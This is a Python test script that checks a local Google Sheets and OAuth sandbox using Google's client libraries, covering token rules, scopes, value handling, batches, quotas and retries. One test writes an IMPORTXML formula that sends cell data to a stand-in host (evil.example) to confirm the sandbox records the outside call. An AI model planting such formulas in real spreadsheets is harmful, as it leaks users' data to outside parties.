"""Google's own client libraries against the sandbox: python google_python.py http://127.0.0.1:12111

Exits non-zero when a check fails, and prints "N passed, M failed".
"""

import datetime
import json
import sys
import time
import traceback
import urllib.error
import urllib.parse
import urllib.request
import uuid

import google_auth_httplib2
import httplib2
from google.auth import crypt, jwt
from google.auth.exceptions import RefreshError
from google.oauth2 import service_account
from googleapiclient.discovery import build
from googleapiclient.errors import HttpError

BASE = sys.argv[1].rstrip("/") if len(sys.argv) > 1 else sys.exit("usage: google_python.py <base URL>")
SCOPE = "https://www.googleapis.com/auth/spreadsheets"
BOOK = f"check-{uuid.uuid4()}"
CHECKS = []


def check(function):
    CHECKS.append(function)
    return function


def control(method, path, body=None):
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(f"{BASE}/_sandbox/{path}", data=data, method=method)
    with urllib.request.urlopen(request) as response:
        text = response.read()
        return json.loads(text) if text else None


KEY_FILE = control("GET", "sheets/service_account")


def credentials(scopes=(SCOPE,)):
    return service_account.Credentials.from_service_account_info(KEY_FILE, scopes=list(scopes))


def client(scopes=(SCOPE,)):
    return build(
        "sheets",
        "v4",
        credentials=credentials(scopes),
        static_discovery=True,
        cache_discovery=False,
        client_options={"api_endpoint": BASE},
    ).spreadsheets()


SHEETS = client()
VALUES = SHEETS.values()


def refused(call):
    try:
        call.execute()
    except HttpError as error:
        return error.resp.status, json.loads(error.content)["error"]
    raise AssertionError("was accepted")


def write(where, values, option="RAW", **more):
    body = {"values": values}
    return VALUES.update(spreadsheetId=BOOK, range=where, valueInputOption=option, body=body, **more).execute()


def read(where, option="FORMATTED_VALUE", **more):
    return VALUES.get(spreadsheetId=BOOK, range=where, valueRenderOption=option, **more).execute().get("values")


def clear():
    VALUES.clear(spreadsheetId=BOOK, range="Orders", body={}).execute()


def token_answer(claims_changes=None, key=None, **form):
    now = int(time.time())
    claims = {
        "iss": KEY_FILE["client_email"],
        "aud": f"{BASE}/token",
        "scope": SCOPE,
        "iat": now,
        "exp": now + 3600,
    }
    claims.update(claims_changes or {})
    signer = key or crypt.RSASigner.from_service_account_info(KEY_FILE)
    form.setdefault("grant_type", "urn:ietf:params:oauth:grant-type:jwt-bearer")
    form.setdefault("assertion", jwt.encode(signer, claims).decode())
    request = urllib.request.Request(f"{BASE}/token", data=urllib.parse.urlencode(form).encode())
    try:
        with urllib.request.urlopen(request) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())


@check
def google_auth_gets_a_token_for_an_hour():
    account = credentials()
    account.refresh(google_auth_httplib2.Request(httplib2.Http()))
    assert account.token.startswith("ya29."), account.token
    now = datetime.datetime.now(datetime.timezone.utc).replace(tzinfo=None)
    left = (account.expiry - now).total_seconds()
    assert 3500 < left <= 3600, left


@check
def an_assertion_for_the_sandbox_own_address_counts_too():
    status, answer = token_answer()
    assert (status, answer["token_type"], answer["expires_in"]) == (200, "Bearer", 3599)


@check
def wrong_assertions_are_refused():
    now = int(time.time())
    for changes, error in [
        ({"iss": "nobody@sandbox.iam.gserviceaccount.com"}, "invalid_grant"),
        ({"aud": "https://example.com/token"}, "invalid_grant"),
        ({"exp": now + 7200}, "invalid_grant"),
        ({"iat": now - 7200, "exp": now - 3600}, "invalid_grant"),
        ({"scope": ""}, "invalid_scope"),
        ({"sub": "boss@example.com"}, "unauthorized_client"),
    ]:
        status, answer = token_answer(changes)
        assert status in (400, 401) and answer["error"] == error and answer["error_description"], (changes, answer)
    assert token_answer(grant_type="password")[1]["error"] == "unsupported_grant_type"


@check
def a_foreign_signature_is_refused():
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    foreign = rsa.generate_private_key(public_exponent=65537, key_size=2048).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    info = {**KEY_FILE, "private_key": foreign.decode()}
    account = service_account.Credentials.from_service_account_info(info, scopes=[SCOPE])
    try:
        account.refresh(google_auth_httplib2.Request(httplib2.Http()))
    except RefreshError as error:
        assert "Invalid JWT Signature." in str(error), error
    else:
        raise AssertionError("was accepted")


@check
def scopes_bound_what_a_token_may_do():
    reader = client([f"{SCOPE}.readonly"])
    reader.get(spreadsheetId=BOOK).execute()
    call = reader.values().update(
        spreadsheetId=BOOK, range="A1", valueInputOption="RAW", body={"values": [[1]]}
    )
    status, error = refused(call)
    assert (status, error["status"]) == (403, "PERMISSION_DENIED"), error
    stranger = client(["https://www.googleapis.com/auth/calendar"])
    assert refused(stranger.get(spreadsheetId=BOOK))[0] == 403


@check
def a_call_without_a_token_is_401():
    request = urllib.request.Request(f"{BASE}/v4/spreadsheets/{BOOK}")
    try:
        urllib.request.urlopen(request)
    except urllib.error.HTTPError as error:
        assert (error.code, json.loads(error.read())["error"]["status"]) == (401, "UNAUTHENTICATED")
    else:
        raise AssertionError("was let in")


@check
def the_spreadsheet_tells_its_tabs():
    book = SHEETS.get(spreadsheetId=BOOK).execute()
    assert book["spreadsheetId"] == BOOK and book["properties"]["title"] == "Check"
    first = book["sheets"][0]["properties"]
    assert (first["sheetId"], first["title"], first["index"]) == (0, "Orders", 0)
    assert first["gridProperties"] == {"rowCount": 1000, "columnCount": 26}
    partial = SHEETS.get(spreadsheetId=BOOK, fields="sheets.properties(title,sheetId)").execute()
    assert partial["sheets"][0] == {"properties": {"title": "Orders", "sheetId": 0}}
    assert refused(SHEETS.get(spreadsheetId="nowhere"))[0] == 404


@check
def raw_is_stored_as_it_is():
    row = ["=1+1", "'x", "00123", "2026-11-23", "TRUE", 1.5, True]
    answer = write("Orders!A1:G1", [row])
    assert answer == {
        "spreadsheetId": BOOK,
        "updatedRange": "Orders!A1:G1",
        "updatedRows": 1,
        "updatedColumns": 7,
        "updatedCells": 7,
    }
    assert read("Orders!A1:G1") == [["=1+1", "'x", "00123", "2026-11-23", "TRUE", "1.5", "TRUE"]]
    assert read("Orders!A1:G1", "UNFORMATTED_VALUE") == [row]
    assert read("Orders!A1:G1", "FORMULA") == [row]


@check
def user_entered_is_read_as_if_typed():
    row = ["=1+1", "'=1+1", "00123", "2026-11-23", "true", "12%", "$1,234.50", "text"]
    write("Orders!A1", [row], "USER_ENTERED")
    assert read("1:1") == [["2", "=1+1", "123", "2026-11-23", "TRUE", "12%", "$1,234.50", "text"]]
    assert read("1:1", "UNFORMATTED_VALUE") == [[2, "=1+1", 123, 46349, True, 0.12, 1234.5, "text"]]
    assert read("1:1", "FORMULA")[0][0] == "=1+1"
    shown = read("D1", "UNFORMATTED_VALUE", dateTimeRenderOption="FORMATTED_STRING")
    assert shown == [["2026-11-23"]], shown


@check
def formulas_work_and_injections_show():
    write("Orders!A1:A3", [[1], [2], [3]], "USER_ENTERED")
    formulas = [
        "=SUM(A1:A3)",
        '=HYPERLINK("https://example.com","click")',
        "=1/0",
        "=NOSUCH()",
        '=IMPORTXML("https://evil.example/?"&A1,"//a")',
    ]
    write("Orders!B1:F1", [formulas], "USER_ENTERED")
    assert read("B1:F1") == [["6", "click", "#DIV/0!", "#NAME?", "#REF!"]]
    calls = control("GET", f"sheets/{BOOK}")["outside_calls"]
    assert calls == [{"cell": "Orders!F1", "function": "IMPORTXML", "target": "https://evil.example/?1"}], calls


@check
def answers_are_trimmed_and_ranges_clipped():
    write("Orders!B2:D4", [["a", "", ""], ["", "", ""], ["", "b", ""]])
    answer = VALUES.get(spreadsheetId=BOOK, range="Orders").execute()
    assert answer["range"] == "Orders!A1:Z1000" and answer["majorDimension"] == "ROWS"
    assert answer["values"] == [[], ["", "a"], [], ["", "", "b"]]
    assert read("Orders!B2:C4", majorDimension="COLUMNS") == [["a"], ["", "", "b"]]
    empty = VALUES.get(spreadsheetId=BOOK, range="Orders!X1:Y9").execute()
    assert "values" not in empty and empty["range"] == "Orders!X1:Y9"


@check
def null_keeps_and_empty_text_empties():
    write("A1:C1", [["a", "b", "c"]])
    assert write("A1:C1", [[None, "", "x"]])["updatedCells"] == 2
    assert read("A1:C1") == [["a", "", "x"]]


@check
def the_grid_has_an_edge():
    body = {"values": [["x"]]}
    for where in ("Orders!A1001", "Orders!AA1"):
        status, error = refused(VALUES.update(spreadsheetId=BOOK, range=where, valueInputOption="RAW", body=body))
        expected = f"Range ({where}) exceeds grid limits. Max rows: 1000, max columns: 26"
        assert (status, error["status"], error["message"]) == (400, "INVALID_ARGUMENT", expected), error
    assert refused(VALUES.get(spreadsheetId=BOOK, range="Orders!A1001"))[0] == 400
    wide = VALUES.update(spreadsheetId=BOOK, range="A1:B1", valueInputOption="RAW", body={"values": [[1, 2, 3]]})
    assert "but tried writing to column [C]" in refused(wide)[1]["message"]


@check
def wrong_requests_are_400():
    for call, part in [
        (VALUES.get(spreadsheetId=BOOK, range="Nowhere!A1"), "Unable to parse range: Nowhere!A1"),
        (VALUES.update(spreadsheetId=BOOK, range="A1", body={"values": [[1]]}), "'valueInputOption' is required"),
        (
            VALUES.update(spreadsheetId=BOOK, range="A1", valueInputOption="RAW", body={"values": [[[1]]]}),
            "Invalid values[0][0]: list_value",
        ),
        (
            VALUES.update(spreadsheetId=BOOK, range="A1", valueInputOption="RAW", body={"values": [["x" * 50001]]}),
            "maximum of 50000 characters",
        ),
        (
            VALUES.update(spreadsheetId=BOOK, range="A1", valueInputOption="RAW", body={"values": [["x" * 40000]] * 60}),
            "Request payload size exceeds the limit",
        ),
    ]:
        status, error = refused(call)
        assert status == 400 and part in error["message"], error


@check
def a_batch_of_values_is_whole_or_nothing():
    def batch(second):
        data = [
            {"range": "Orders!A1:B1", "values": [["a", "b"]]},
            {"range": second, "majorDimension": "COLUMNS", "values": [["c", "d"]]},
        ]
        body = {"valueInputOption": "RAW", "data": data, "includeValuesInResponse": True}
        return VALUES.batchUpdate(spreadsheetId=BOOK, body=body)

    assert refused(batch("Orders!A1001"))[0] == 400
    assert read("Orders") is None
    answer = batch("Orders!B3:B4").execute()
    totals = [answer[f"totalUpdated{what}"] for what in ("Rows", "Columns", "Cells", "Sheets")]
    assert totals == [3, 2, 4, 1], totals
    assert answer["responses"][1]["updatedData"]["values"] == [["c"], ["d"]]
    got = VALUES.batchGet(spreadsheetId=BOOK, ranges=["A1:B1", "Orders!B4", "Z9"]).execute()
    assert [one.get("values") for one in got["valueRanges"]] == [[["a", "b"]], [["d"]], None]


@check
def a_long_batch_get_is_sent_as_a_post():
    write("A1", [["x"]])
    got = VALUES.batchGet(spreadsheetId=BOOK, ranges=["Orders!A1:B1"] * 200).execute()
    assert len(got["valueRanges"]) == 200 and got["valueRanges"][199]["values"] == [["x"]]


@check
def append_finds_the_tables_end():
    write("A1:C2", [["x", "y", "z"]] * 2)
    write("B4:D6", [["x", "y"], ["y", "z"], ["x", "y", "z"]])

    def append(where, **more):
        body = {"values": [["new"]]}
        return VALUES.append(spreadsheetId=BOOK, range=where, valueInputOption="RAW", body=body, **more).execute()

    first = append("Orders")
    assert (first["tableRange"], first["updates"]["updatedRange"]) == ("Orders!B4:D6", "Orders!B7"), first
    assert append("A1")["updates"]["updatedRange"] == "Orders!A3"
    lonely = append("H20")
    assert "tableRange" not in lonely and lonely["updates"]["updatedRange"] == "Orders!H20"


@check
def append_grows_the_grid():
    tab = {"addSheet": {"properties": {"title": "Small", "gridProperties": {"rowCount": 2, "columnCount": 2}}}}
    SHEETS.batchUpdate(spreadsheetId=BOOK, body={"requests": [tab]}).execute()
    body = {"values": [["1"], ["2"], ["3"]]}
    VALUES.append(spreadsheetId=BOOK, range="Small", valueInputOption="RAW", body=body).execute()
    book = SHEETS.get(spreadsheetId=BOOK, ranges=["Small"]).execute()
    assert len(book["sheets"]) == 1
    assert book["sheets"][0]["properties"]["gridProperties"]["rowCount"] == 3


@check
def clearing_empties():
    write("A1:B2", [[1, 2], [3, 4]])
    cleared = VALUES.clear(spreadsheetId=BOOK, range="A2:Z", body={}).execute()
    assert cleared["clearedRange"] == "Orders!A2:Z1000"
    assert read("Orders") == [["1", "2"]]
    answer = VALUES.batchClear(spreadsheetId=BOOK, body={"ranges": ["A1", "B1"]}).execute()
    assert answer["clearedRanges"] == ["Orders!A1", "Orders!B1"]


@check
def tabs_and_rows_change_whole_or_not_at_all():
    def change(*requests):
        return SHEETS.batchUpdate(spreadsheetId=BOOK, body={"requests": list(requests)})

    added = change({"addSheet": {"properties": {"title": "My tab"}}}).execute()
    tab = added["replies"][0]["addSheet"]["properties"]["sheetId"]
    assert write("'My tab'!B2", [[1]])["updatedRange"] == "'My tab'!B2"
    status, error = refused(change({"deleteSheet": {"sheetId": tab}}, {"deleteSheet": {"sheetId": 12345}}))
    assert status == 400 and error["message"] == "Invalid requests[1].deleteSheet: No grid with id: 12345", error
    assert read("'My tab'!B2") == [["1"]]
    rename = {"properties": {"sheetId": tab, "title": "Renamed"}, "fields": "title"}
    change({"updateSheetProperties": rename}).execute()
    assert read("Renamed!B2") == [["1"]]
    change({"deleteSheet": {"sheetId": tab}}).execute()
    assert refused(VALUES.get(spreadsheetId=BOOK, range="Renamed!B2"))[0] == 400

    write("A1:B4", [["key", "n"], ["c", 1], ["a", 2], ["b", 3]])
    change({"sortRange": {"range": {"sheetId": 0, "startRowIndex": 1}, "sortSpecs": [{"dimensionIndex": 0}]}}).execute()
    assert read("A2:B4") == [["a", "2"], ["b", "3"], ["c", "1"]]
    rows = {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}
    change({"deleteDimension": {"range": rows}}).execute()
    change({"insertDimension": {"range": rows}}).execute()
    assert read("A1:A4") == [["key"], [], ["b"], ["c"]]
    change({"appendDimension": {"sheetId": 0, "dimension": "ROWS", "length": 1}}).execute()
    properties = SHEETS.get(spreadsheetId=BOOK).execute()["sheets"][0]["properties"]
    assert properties["gridProperties"]["rowCount"] == 1001
    too_many = {"appendDimension": {"sheetId": 0, "dimension": "ROWS", "length": 10_000_000}}
    assert "limit of 10000000 cells" in refused(change(too_many))[1]["message"]
    shrink = {"properties": {"sheetId": 0, "gridProperties": {"rowCount": 1000, "columnCount": 26}}}
    change({"updateSheetProperties": {**shrink, "fields": "gridProperties"}}).execute()


@check
def people_edit_by_hand():
    write("A1:B3", [["key", "n"], ["b", 1], ["a", 2]])
    edits = [{"sort": {"column": "A"}}, {"set": {"cell": "B2", "value": "=1+1"}}, {"delete_rows": {"from": 3}}]
    control("POST", f"sheets/{BOOK}/cells", {"tab": "Orders", "edits": edits})
    assert read("Orders") == [["key", "n"], ["a", "2"]]
    rows = {"sheetId": 0, "dimension": "ROWS", "length": 1}
    SHEETS.batchUpdate(spreadsheetId=BOOK, body={"requests": [{"appendDimension": rows}]}).execute()


@check
def quotas_are_told_in_googles_shape():
    body = {"values": [[1]]}
    control("PATCH", "sheets/quotas", {"writes_per_user": 0})
    call = VALUES.update(spreadsheetId=BOOK, range="A1", valueInputOption="RAW", body=body)
    status, error = refused(call)
    control("PATCH", "sheets/quotas", {"writes_per_user": 100000, "reads_per_project": 0})
    read_status, read_error = refused(VALUES.get(spreadsheetId=BOOK, range="A1"))
    control("PATCH", "sheets/quotas", {"reads_per_project": 100000})
    assert (status, read_status, error["status"]) == (429, 429, "RESOURCE_EXHAUSTED")
    assert "limit 'Write requests per minute per user'" in error["message"]
    assert "limit 'Read requests per minute' of" in read_error["message"]
    detail = error["details"][0]
    assert detail["reason"] == "RATE_LIMIT_EXCEEDED"
    assert detail["metadata"]["quota_metric"] == "sheets.googleapis.com/write_requests"


@check
def the_client_retries_a_503_by_itself():
    control("POST", "faults", {"provider": "sheets", "kind": "unavailable", "path": "/v4", "times": 1})
    answer = VALUES.get(spreadsheetId=BOOK, range="A1").execute(num_retries=2)
    control("DELETE", "faults")
    assert answer["range"] == "Orders!A1"


@check
def a_new_spreadsheet_can_be_made():
    body = {"properties": {"title": "Made"}, "sheets": [{"properties": {"title": "First"}}]}
    made = SHEETS.create(body=body).execute()
    got = SHEETS.get(spreadsheetId=made["spreadsheetId"]).execute()
    assert (got["properties"]["title"], got["sheets"][0]["properties"]["title"]) == ("Made", "First")
    control("DELETE", f"sheets/{made['spreadsheetId']}")


@check
def the_page_shows_the_sheet():
    write("A1", [[f"<b>{BOOK}"]])
    with urllib.request.urlopen(f"{BASE}/_sandbox/sheets?id={BOOK}") as response:
        page = response.read().decode()
    assert f"&#60;b&#62;{BOOK}" in page and f"<b>{BOOK}" not in page


def main():
    before = control("GET", "sheets/quotas")
    plenty = {name: 100000 for name in before if name.endswith(("_per_user", "_per_project"))}
    control("PATCH", "sheets/quotas", plenty)
    control("POST", "sheets", {"id": BOOK, "title": "Check", "tabs": ["Orders"]})
    failed = 0
    for function in CHECKS:
        try:
            clear()
            function()
        except Exception:  # noqa: BLE001 - each check reports for itself
            failed += 1
            print(f"FAILED {function.__name__}:\n{traceback.format_exc()}", file=sys.stderr)
    control("DELETE", f"sheets/{BOOK}")
    control("PATCH", "sheets/quotas", before)
    print(f"{len(CHECKS) - failed} passed, {failed} failed")
    return 1 if failed else 0


sys.exit(main())
